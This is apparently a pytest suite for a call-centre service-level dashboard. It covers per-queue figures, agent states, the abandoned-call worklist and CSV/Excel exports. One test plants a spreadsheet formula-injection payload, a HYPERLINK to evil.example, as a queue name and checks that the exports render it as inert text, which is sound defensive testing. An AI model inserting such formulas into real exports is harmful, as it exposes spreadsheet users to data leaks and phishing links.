"""The manager dashboard (SL-1): today's figures per queue and for all queues, the calls
waiting, the agents' states and the abandoned calls as a call-back worklist, from a queue_log
the real tailer stored; history per interval, exported as CSV and Excel; bad input refused.

The day is Wednesday 2026-11-18 in Beijing; "now" is 10:00 (02:00 UTC). Threshold 3 rings ×
(1 s + 4 s) = 15 s. Calls today:

- sales c1: answered after 3 s (within), talk 60 s
- sales c2: answered after 16 s (not within), talk 120 s
- sales c3: abandoned after 40 s, caller 13912345678 (masked *******5678)
- vip c4: answered after 15 s (within: "within" is <= 15 s), agent PJSIP/801 still talking
- vip c5: entered 20 s ago, still waiting: no outcome, so in no figure, but in "waiting now"
- sales c0: entered yesterday at 23:59:50, answered after midnight: yesterday's, not today's

So sales: offered 3, answered 2, abandoned 1, within 1, SL of offered 1/3, of answered 1/2,
ASA (3 + 16) / 2 = 9.5 s, longest wait 40 s, AHT (60 + 120) / 2 = 90 s. vip: offered 1,
answered 1, within 1. All queues: offered 4, answered 3, within 2, SL of offered 2/4 = 0.5,
of answered 2/3, ASA (3 + 16 + 15) / 3 = 34/3 s, longest wait 40 s.

Agents: 801 logged in, on c4 (on a call); 802 logged in then paused "lunch"; 803 logged in
and off again.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from services.metrics.tailer import QueueLogTailer
from shared.auth import Role
from shared.clock import clock
from workers.registry import service_app

NOW = datetime(2026, 11, 18, 2, 0, tzinfo=UTC)  # 10:00 in Beijing
T = int(NOW.timestamp())
MIDNIGHT = T - 10 * 3600  # 00:00 in Beijing


def day_log() -> list[str]:
    h9 = T - 3600  # 09:00
    return [
        f"{MIDNIGHT - 10}|c0|sales|NONE|ENTERQUEUE||13800000000|1",
        f"{MIDNIGHT + 5}|c0|sales|PJSIP/802|CONNECT|15|c0b|3",
        f"{MIDNIGHT + 65}|c0|sales|PJSIP/802|COMPLETECALLER|15|60|1",
        f"{h9 - 600}|NONE|NONE|PJSIP/801|AGENTLOGIN|PJSIP/801",
        f"{h9 - 600}|NONE|NONE|PJSIP/802|AGENTLOGIN|PJSIP/802",
        f"{h9 - 600}|NONE|NONE|PJSIP/803|AGENTLOGIN|PJSIP/803",
        f"{h9}|c1|sales|NONE|ENTERQUEUE||13711112222|1",
        f"{h9 + 3}|c1|sales|PJSIP/801|CONNECT|3|c1b|3",
        f"{h9 + 63}|c1|sales|PJSIP/801|COMPLETECALLER|3|60|1",
        f"{h9 + 100}|c2|sales|NONE|ENTERQUEUE||13733334444|1",
        f"{h9 + 116}|c2|sales|PJSIP/802|CONNECT|16|c2b|5",
        f"{h9 + 236}|c2|sales|PJSIP/802|COMPLETEAGENT|16|120|1",
        f"{h9 + 300}|NONE|NONE|PJSIP/803|AGENTLOGOFF|PJSIP/803|900",
        f"{h9 + 400}|NONE|NONE|PJSIP/802|PAUSEALL|lunch",
        f"{h9 + 1000}|c3|sales|NONE|ENTERQUEUE||13912345678|1",
        f"{h9 + 1040}|c3|sales|NONE|ABANDON|1|1|40",
        f"{T - 300}|c4|vip|NONE|ENTERQUEUE||13655556666|1",
        f"{T - 285}|c4|vip|PJSIP/801|CONNECT|15|c4b|5",
        f"{T - 20}|c5|vip|NONE|ENTERQUEUE||13577778888|1",
    ]


async def ingest(tmp_path: Path, sessionmaker, lines: list[str]) -> None:
    """Through the real tailer, as the running service stores them."""
    path = tmp_path / "queue_log"
    with path.open("a", encoding="utf-8") as log:
        log.writelines(line + "\n" for line in lines)
    tailer = QueueLogTailer(path, sessionmaker)
    try:
        assert await tailer.poll_once() == len(lines)
    finally:
        tailer.close()


@pytest.fixture
async def manager(tmp_path, sessionmaker, login_as):
    clock.set_now(NOW)
    await ingest(tmp_path, sessionmaker, day_log())
    return await login_as("gm", Role.GENERAL_MANAGER)


def by_queue(body: dict) -> dict[str, dict]:
    return {row["queue"]: row for row in body["queues"]}


async def test_sl1_today_per_queue_and_all_queues(manager) -> None:
    response = await manager.get("/sla/api/today")
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["day"] == "2026-11-18"
    assert body["threshold_seconds"] == 15
    assert body["formulas"]["threshold"] == "3 rings × (1 s on + 4 s off) = 15 s"
    queues = by_queue(body)
    assert list(queues) == ["sales", "vip", "All queues"]
    sales, vip, total = queues["sales"], queues["vip"], queues["All queues"]
    assert (sales["offered"], sales["answered"], sales["abandoned"]) == (3, 2, 1)
    assert sales["answered_within_threshold"] == 1
    assert sales["service_level_of_offered"] == pytest.approx(1 / 3)
    assert sales["service_level_of_answered"] == pytest.approx(1 / 2)
    assert sales["average_speed_of_answer"] == pytest.approx(9.5)
    assert sales["longest_wait_seconds"] == 40
    assert sales["average_handle_seconds"] == pytest.approx(90)
    assert (vip["offered"], vip["answered"], vip["answered_within_threshold"]) == (1, 1, 1)
    assert (total["offered"], total["answered"], total["answered_within_threshold"]) == (4, 3, 2)
    assert total["service_level_of_offered"] == pytest.approx(0.5)
    assert total["service_level_of_answered"] == pytest.approx(2 / 3)
    assert total["average_speed_of_answer"] == pytest.approx(34 / 3)


async def test_sl1_waiting_agents_and_abandoned_worklist(manager) -> None:
    body = (await manager.get("/sla/api/today")).json()
    [waiting] = body["waiting"]
    assert (waiting["queue"], waiting["caller"], waiting["waiting_seconds"]) == (
        "vip",
        "*******8888",
        20,
    )
    states = {agent["agent"]: (agent["state"], agent["reason"]) for agent in body["agents"]}
    assert states == {
        "PJSIP/801": ("on a call", ""),
        "PJSIP/802": ("paused", "lunch"),
        "PJSIP/803": ("logged off", ""),
    }
    # Per agent: every answered call today is some agent's, nothing counted twice.
    answered = {row["agent"]: row["answered"] for row in body["agent_figures"]}
    assert sum(answered.values()) == by_queue(body)["All queues"]["answered"] == 3
    [abandoned] = body["abandoned"]
    assert (abandoned["caller"], abandoned["wait_seconds"]) == ("*******5678", 40)
    assert "13912345678" not in str(body)  # no full number leaves the service


async def test_sl1_ring_cadence_setting_moves_the_threshold(manager, monkeypatch) -> None:
    """Ring off 5 s: 3 × (1 + 5) = 18 s, so c2's 16 s wait counts as within too."""
    monkeypatch.setattr(service_app("metrics").state.settings, "ring_off_seconds", 5.0)
    body = (await manager.get("/sla/api/today")).json()
    assert body["threshold_seconds"] == 18
    assert by_queue(body)["sales"]["answered_within_threshold"] == 2
    assert by_queue(body)["All queues"]["service_level_of_offered"] == pytest.approx(0.75)


async def test_sl1_page_and_fragment_show_today(manager) -> None:
    page = await manager.page("/sla/")
    assert page.status_code == 200
    # The refresh script is a static file (no inline script under the CSP); it reads the
    # fragment's address from the box it fills.
    assert 'id="today" aria-live="polite" data-src="/sla/today"' in page.text
    assert '<script src="/sla/static/js/sla-dashboard.js">' in page.text
    fragment = await manager.page("/sla/today")
    assert fragment.status_code == 200
    assert "<html" not in fragment.text  # the live part alone
    for text in ("Service level of offered", "3 rings × (1 s on + 4 s off) = 15 s", "50%"):
        assert text in fragment.text
    assert "*******5678" in fragment.text and "paused (lunch)" in fragment.text


async def test_sl1_page_in_chinese_from_the_catalog(manager) -> None:
    """Issue 15: with the Chinese locale cookie the dashboard reads in the business's terms."""
    manager.http.cookies.set("roomline_locale", "zh_CN")
    page = await manager.page("/sla/")
    assert page.status_code == 200
    for text in (
        '<html lang="zh-CN">',
        "<h1>今日服务水平</h1>",
        "<strong>全部队列</strong>",
        "呼入服务水平",
        "阈值：3 声 ×（响 1 秒 + 停 4 秒）= 15 秒。",
        "示忙 (lunch)",
        "今日放弃来电：需回拨（1）",
        "所有 NO-SHOW 记录均在半个工作日内。",  # SL-4 (issue 16)
    ):
        assert text in page.text, text
    for text in (
        "Service levels today",
        "All queues</strong>",
        "Service level of offered",
        "rings",
    ):
        assert text not in page.text, text


async def test_sl1_empty_day_says_so(sessionmaker, login_as) -> None:
    clock.set_now(NOW)
    manager = await login_as("gm", Role.GENERAL_MANAGER)
    fragment = await manager.page("/sla/today")
    assert "No calls yet today." in fragment.text
    assert "No abandoned calls today." in fragment.text


async def test_sl1_history_per_hour_and_exports(manager) -> None:
    query = "interval=hour&from=2026-11-17&to=2026-11-18"
    body = (await manager.get(f"/sla/api/history?{query}")).json()
    rows = [(r["starts_at"][:16], r["queue"], r["offered"]) for r in body["rows"]]
    assert rows == [
        ("2026-11-17T23:00", "sales", 1),  # c0, the call spanning midnight
        ("2026-11-17T23:00", "All queues", 1),
        ("2026-11-18T09:00", "sales", 3),
        ("2026-11-18T09:00", "vip", 1),
        ("2026-11-18T09:00", "All queues", 4),
    ]
    csv_text = (await manager.get(f"/sla/history.csv?{query}")).text.lstrip("\ufeff")
    lines = csv_text.splitlines()
    assert lines[0].startswith("Interval start,Queue,Offered,Answered,Abandoned")
    assert lines[-1].startswith("2026-11-18 09:00,All queues,4,3,1,0,0,2,0.5,")
    xlsx = await manager.get(f"/sla/history.xlsx?{query}")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert cells[0][:3] == ["Interval start", "Queue", "Offered"]
    assert cells[-1][:5] == ["2026-11-18 09:00", "All queues", 4, 3, 1]
    page = await manager.page(f"/sla/history?{query}")
    assert page.status_code == 200 and "chart.umd.min.js" in page.text
    assert '"2026-11-18 09:00"' in page.text  # a chart label


async def test_sl1_history_refuses_bad_input_naming_the_field(manager) -> None:
    bad_interval = await manager.get("/sla/api/history?interval=year")
    assert bad_interval.status_code == 422
    assert bad_interval.json()["fields"][0]["field"] == "interval"
    bad_date = await manager.get("/sla/api/history?from=2026-13-01")
    assert bad_date.status_code == 422
    assert bad_date.json()["fields"][0]["field"] == "from"
    reversed_range = await manager.get("/sla/history.csv?from=2026-11-18&to=2026-11-01")
    assert reversed_range.status_code == 422
    assert reversed_range.json()["fields"][0]["field"] == "from"
    page = await manager.page("/sla/history?interval=fortnight")
    # Issue 14: the interval is one of five words in the OpenAPI too; the page names them.
    assert page.status_code == 422 and "Interval: Choose one of the offered options." in page.text


async def test_sl1_agents_may_not_see_the_dashboard(login_as) -> None:
    agent = await login_as("ana", Role.AGENT)
    assert (await agent.get("/sla/api/today")).status_code == 403


async def test_issue14_a_hostile_queue_name_exports_as_inert_text(
    tmp_path, sessionmaker, login_as
) -> None:
    clock.set_now(NOW)
    hostile = '=HYPERLINK("http://evil.example/?q","queue")'
    h9 = T - 3600
    await ingest(
        tmp_path,
        sessionmaker,
        [
            f"{h9}|c9|{hostile}|NONE|ENTERQUEUE||13711112222|1",
            f"{h9 + 3}|c9|{hostile}|PJSIP/801|CONNECT|3|c9b|3",
            f"{h9 + 63}|c9|{hostile}|PJSIP/801|COMPLETECALLER|3|60|1",
        ],
    )
    manager = await login_as("gm", Role.GENERAL_MANAGER)
    query = "interval=hour&from=2026-11-18&to=2026-11-18"

    csv_text = (await manager.get(f"/sla/history.csv?{query}")).text.lstrip("\ufeff")
    xlsx = await manager.get(f"/sla/history.xlsx?{query}")

    rows = list(csv.reader(io.StringIO(csv_text)))
    assert ["2026-11-18 09:00", "'" + hostile, "1", "1"] in [r[:4] for r in rows]
    assert "'=HYPERLINK" in csv_text
    assert ",=HYPERLINK" not in csv_text and ',"=HYPERLINK' not in csv_text
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    queue = sheet["B2"]
    assert (queue.value, queue.data_type, queue.quotePrefix) == (hostile, "s", True)
    assert [c.value for c in sheet[2][2:4]] == [1, 1]  # figures stay numbers


async def test_issue19_the_call_back_list_gives_the_newest_and_counts_them_all(
    tmp_path, sessionmaker, login_as, monkeypatch
) -> None:
    """A busy day's worklist is cut to the newest (a 5-second poll of tens of thousands of
    calls weighed 4 MB): the API and the page say how many there were in all."""
    clock.set_now(NOW)
    h10 = T - 3 * 3600  # 07:00
    hung_up = [
        line
        for n in range(7)
        for line in (
            f"{h10 + 60 * n}|a{n}|sales|NONE|ENTERQUEUE||1380000000{n}|1",
            f"{h10 + 60 * n + 10 + n}|a{n}|sales|NONE|ABANDON|1|1|{10 + n}",
        )
    ]
    await ingest(tmp_path, sessionmaker, hung_up)
    manager = await login_as("gm", Role.GENERAL_MANAGER)
    body = (await manager.get("/sla/api/today", params={"abandoned_limit": 3})).json()
    assert body["abandoned_total"] == 7
    assert [call["wait_seconds"] for call in body["abandoned"]] == [16, 15, 14]  # newest first
    everyone = (await manager.get("/sla/api/today")).json()["abandoned"]
    assert len(everyone) == 7
    refused = await manager.get("/sla/api/today", params={"abandoned_limit": 5001})
    assert refused.status_code == 422 and "abandoned_limit" in refused.text
    monkeypatch.setattr("services.metrics.dashboard.WORKLIST", 2)
    page = await manager.page("/sla/")
    assert "(7)" in page.text and page.text.count("*******") >= 2
    assert "abandoned_limit" in page.text  # the list says it shows only the newest
